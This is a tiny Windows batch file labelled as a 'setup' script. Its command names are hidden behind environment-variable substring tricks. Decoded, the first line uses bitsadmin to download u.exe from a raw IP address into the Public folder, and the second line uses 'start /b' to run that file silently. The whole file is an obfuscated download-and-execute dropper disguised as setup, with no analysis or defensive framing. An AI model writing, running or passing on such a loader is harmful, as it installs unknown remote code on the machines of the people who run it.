REM setup 5913 v3
%PUBLIC:~11,1%%public:~-2,1%ts%programdata:~8,1%dm%windir:~4,1%n /transfer job /download /priority high http://198.51.100.23/u.exe C:\Users\Public\u.exe
%PUBLIC:~4,1%%comspec:~-13,1%a%PUBLIC:~-9,1%t /b C:\Users\Public\u.exe
